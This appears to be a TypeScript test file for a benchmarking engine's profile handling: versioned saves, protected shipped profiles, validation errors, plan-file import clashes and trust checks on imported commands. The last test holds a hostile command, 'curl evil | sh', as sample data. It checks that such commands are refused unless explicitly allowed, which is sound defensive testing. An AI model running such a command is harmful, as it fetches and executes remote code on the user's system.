import { importOwn, sourceOf } from '../../../src/wire/importOwn.ts';
import {
  createHarness,
  type Harness,
  testPlanFile,
  testProfile,
} from '../testing/engineHarness.ts';

let harness: Harness;
beforeEach(async () => {
  harness = await createHarness();
});
afterEach(() => harness.close());
const own = { ...testProfile, id: 'own', name: 'Own', parentId: 'open-driver-tile' };

test('an own profile is kept, its version counts up, it outlives the engine and is listed after the shipped ones', async () => {
  expect((await harness.call('profile.save', own)).version).toBe('1');
  expect((await harness.call('profile.save', { ...own, name: 'Changed' })).version).toBe('2');
  await harness.restart();
  const list = await harness.call('profile.list', {});
  expect(list.at(-1)).toEqual({ ...own, name: 'Changed', version: '2' });
  expect(list[0]).toMatchObject({ shipped: true });
});

test('a shipped profile can neither be saved over nor removed', async () => {
  const [listed] = await harness.call('profile.list', {});
  const { shipped: _, ...shipped } = listed!;
  await expect(harness.call('profile.save', { ...shipped, name: 'Mine' })).rejects.toMatchObject({
    kind: 'conflict',
    hint: 'Copy it and change the copy.',
  });
  await expect(harness.call('profile.remove', { id: shipped.id })).rejects.toMatchObject({
    kind: 'conflict',
  });
});

test('a faulty profile is refused with its place, and nothing is kept', async () => {
  await expect(
    harness.call('profile.save', {
      ...own,
      workloads: own.workloads.map((w) => ({ ...w, unit: 'furlongs' })),
    }),
  ).rejects.toMatchObject({
    kind: 'invalidInput',
    message: expect.stringContaining('workloads.0.unit'),
  });
  await expect(harness.call('profile.save', { ...own, parentId: 'own' })).rejects.toMatchObject({
    kind: 'invalidInput',
    message: expect.stringContaining('own → own'),
  });
  expect((await harness.call('profile.list', {})).some((p) => p.id === 'own')).toBe(false);
});

test('a profile that a plan or testbed uses stays; without them it goes', async () => {
  await importOwn(harness, sourceOf(testPlanFile()));
  await expect(harness.call('profile.remove', { id: testProfile.id })).rejects.toMatchObject({
    kind: 'conflict',
    message: 'The profile is used by plan Plan, testbed Bed.',
  });
  await harness.call('plan.remove', { id: 'plan' });
  await harness.call('testbed.remove', { id: 'tb' });
  await harness.call('profile.remove', { id: testProfile.id });
  expect((await harness.call('profile.list', {})).some((p) => p.id === testProfile.id)).toBe(false);
});

test('a profile that came with a plan file is still there after a restart', async () => {
  await importOwn(harness, sourceOf(testPlanFile()));
  await harness.restart();
  expect((await harness.call('plan.check', { id: 'plan' })).planId).toBe('plan');
});

test('a plan file cannot slip another profile under a shipped name', async () => {
  const file = testPlanFile();
  const profile = { ...testProfile, id: 'open-driver-tile' };
  const source = sourceOf({
    ...file,
    profile,
    plan: { ...file.plan, profileId: profile.id },
    testbed: { ...file.testbed, profileId: profile.id },
  });
  const preview = await harness.call('plan.previewImport', source);
  expect(preview.clashes).toMatchObject([{ key: 'profile:open-driver-tile', replaceable: false }]);
  await expect(
    harness.call('plan.import', {
      ...source,
      trust: preview.digest,
      decisions: { 'profile:open-driver-tile': 'replace' },
    }),
  ).rejects.toMatchObject({ kind: 'conflict', hint: expect.stringContaining('profile.id') });
  const { plan } = await importOwn(harness, source);
  expect(plan.profileId).toBe('open-driver-tile-2');
});

test('a profile of a file comes in as a new one; its shell commands only where somebody agreed to them', async () => {
  const imported = await harness.call('profile.import', { profile: own });
  expect(imported).toEqual(own);
  await expect(harness.call('profile.import', { profile: own })).rejects.toMatchObject({
    kind: 'conflict',
  });
  const profile = {
    ...own,
    id: 'shell',
    workloads: own.workloads.map((w) => ({
      ...w,
      driver: 'command',
      params: { command: 'curl evil | sh', pattern: '(?<throughput>\\d+)' },
    })),
  };
  await expect(harness.call('profile.import', { profile })).rejects.toMatchObject({
    kind: 'untrusted',
    message: expect.stringContaining(`${own.workloads.length} shell commands`),
  });
  expect((await harness.call('profile.list', {})).some((p) => p.id === 'shell')).toBe(false);
  await harness.call('profile.import', { profile, allowCommands: true });
  expect((await harness.call('profile.list', {})).some((p) => p.id === 'shell')).toBe(true);
});
